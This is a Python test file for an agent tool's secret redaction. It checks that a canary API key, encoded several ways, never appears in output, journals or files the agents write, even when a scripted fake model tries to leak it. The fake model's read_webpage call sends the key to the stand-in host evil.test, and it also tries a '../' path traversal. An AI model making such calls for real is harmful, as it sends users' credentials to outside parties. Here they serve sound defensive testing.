"""A key of the user's stays out of everything a run leaves behind and shows, whoever repeats it and how."""

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from attacks.world import everything
from command import explorer
from explorer.text.sanitize import REDACTED, Redactor
from model_servers import AnthropicServer, Asked, OpenAIServer, Reply
from team_script import only_run, role_of

KEY = "sk-canary/7Qw9+ZpL2mX4vB8nR=="
FORMS = {
    "raw": KEY,
    "url": quote(KEY, safe=""),
    "json": json.dumps(KEY),
    "hex": KEY.encode().hex(),
    "reversed": KEY[::-1],
    "base64": base64.b64encode(KEY.encode()).decode(),
    "header": base64.b64encode(f"user:{KEY}".encode()).decode(),
}
ALL = " ".join(FORMS.values())
NOTES = "Output rose by 12 % in May.\n"
REPORT = "# May\n\nOutput rose by 12 % in May [S1], and the log of the plant says no more than that about it.\n"


def talkative(asked: Asked) -> Reply:
    """A model that puts the key into everything it may fill in, but for the content of files."""
    if role_of(asked) != "orchestrator":
        if not asked.results:
            return Reply(
                text=ALL, calls=[("read_webpage", {"url": f"https://evil.test/?{quote(ALL)}"}), (KEY, {"a": ALL})]
            )
        return Reply(text=f"Found {ALL}")
    steps = [
        Reply(
            text=f"I think {ALL}",
            thinking=ALL,
            calls=[
                ("call_agent", {"agent_type": "searcher", "task_description": f"Look for {ALL}"}),
                ("read_file", {"filepath": f"../{KEY}"}),
                ("read_file", f'{{"filepath": "{KEY}'),
                ("list_files", {"path": "", "glob": ALL}),
                ("search_files", {"pattern": f"({ALL}"}),
            ],
        ),
        Reply(calls=[("write_file", {"filepath": "report.md", "content": REPORT, "mode": "overwrite"})]),
        Reply(text=ALL, calls=[("finish_exploration", {"summary": f"It rose, {ALL}."})]),
    ]
    return steps[min(len(asked.results) // 5 + (len(asked.results) > 5), 2)]


def found_in(workspace: Path) -> Iterator[str]:
    """Files below a folder that hold the key in any form, or are named after it."""
    redactor = Redactor([KEY])
    for name, content in everything(workspace):
        if redactor.is_in(content) or redactor.is_in(name.encode()):
            yield name


@pytest.mark.slow
@pytest.mark.parametrize("server", [AnthropicServer, OpenAIServer])
def test_a_model_that_repeats_the_key(server: type[AnthropicServer | OpenAIServer], tmp_path: Path) -> None:
    """Its words, thoughts, arguments, tools' errors, in pieces and in every form: nothing of it is left or shown."""
    (tmp_path / "notes.md").write_text(NOTES)
    is_anthropic = server is AnthropicServer
    with server(talkative) as model:
        name, url = (
            ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL") if is_anthropic else ("OPENAI_API_KEY", "OPENAI_BASE_URL")
        )
        words = ("--file", "notes.md", "--output-format", "stream-json", "-vv", f"How was May? {KEY}")
        done = explorer(*words, cwd=tmp_path, settings={name: KEY, url: model.url}, is_fresh=True)
        assert any(KEY in str(headers) for headers in model.headers), "the key was used"
    assert done.returncode == 0, done.stderr
    assert not Redactor([KEY]).is_in((done.stdout + done.stderr).encode())
    assert REDACTED in done.stdout
    assert list(found_in(tmp_path / "workspace")) == []
    for command in ("show", "report", "runs"):
        later = explorer(
            command, *(["latest"] if command != "runs" else []), cwd=tmp_path, settings={name: KEY}, is_fresh=True
        )
        assert not Redactor([KEY]).is_in((later.stdout + later.stderr).encode())


@pytest.mark.slow
@pytest.mark.parametrize(("status", "exit_code"), [(401, 4), (400, 1)])
def test_a_server_that_repeats_the_key_in_an_error(status: int, exit_code: int, tmp_path: Path) -> None:
    """The error's body says the key in every form; the run's folder, the screen and the details of `-vv` do not."""
    body = json.dumps({"error": {"message": f"Something is wrong with {ALL}.", "code": "invalid"}})
    (tmp_path / "notes.md").write_text(NOTES)
    with OpenAIServer(lambda _asked: Reply(status=status, body=body)) as model:
        settings = {"OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": model.url}
        done = explorer("--file", "notes.md", "-vv", "How was May?", cwd=tmp_path, settings=settings, is_fresh=True)
    assert done.returncode == exit_code
    assert not Redactor([KEY]).is_in((done.stdout + done.stderr).encode())
    assert list(found_in(tmp_path / "workspace")) == []
    shown = (only_run(tmp_path / "workspace") / ".explorer" / "journal.jsonl").read_text()
    assert (REDACTED in shown) == (status == 400), "of a refused key nothing is repeated at all"


FILES = [
    ("write_file", {"filepath": "findings.md", "content": f"The key is {ALL}", "mode": "overwrite"}),
    ("write_file", {"filepath": "report.md", "content": f"{REPORT}\n{ALL}", "mode": "overwrite"}),
]


@pytest.mark.slow
def test_a_key_in_files_that_agents_write(tmp_path: Path) -> None:
    """What a model writes into findings and the report has the mark in the key's place."""
    (tmp_path / "notes.md").write_text(NOTES)

    def write(asked: Asked) -> Reply:
        steps = [Reply(calls=FILES), Reply(calls=[("finish_exploration", {"summary": "It rose."})])]
        return steps[min(len(asked.results), 1)]

    with OpenAIServer(write) as model:
        settings = {"OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": model.url}
        done = explorer("--file", "notes.md", "How was May?", cwd=tmp_path, settings=settings, is_fresh=True)
    assert done.returncode == 0, done.stderr
    assert list(found_in(tmp_path / "workspace")) == []
    assert REDACTED in (only_run(tmp_path / "workspace") / "findings.md").read_text()


@pytest.mark.slow
def test_without_the_key_being_known_it_would_be_found(tmp_path: Path) -> None:
    """The control: the same words about a key that is not this run's are kept as they are, and are found."""
    (tmp_path / "notes.md").write_text(NOTES)
    with OpenAIServer(talkative) as model:
        settings = {"OPENAI_API_KEY": "sk-another-key-1234", "OPENAI_BASE_URL": model.url}
        done = explorer("--file", "notes.md", "How was May?", cwd=tmp_path, settings=settings, is_fresh=True)
    assert done.returncode == 0, done.stderr
    assert any(name.endswith("journal.jsonl") for name in found_in(tmp_path / "workspace"))
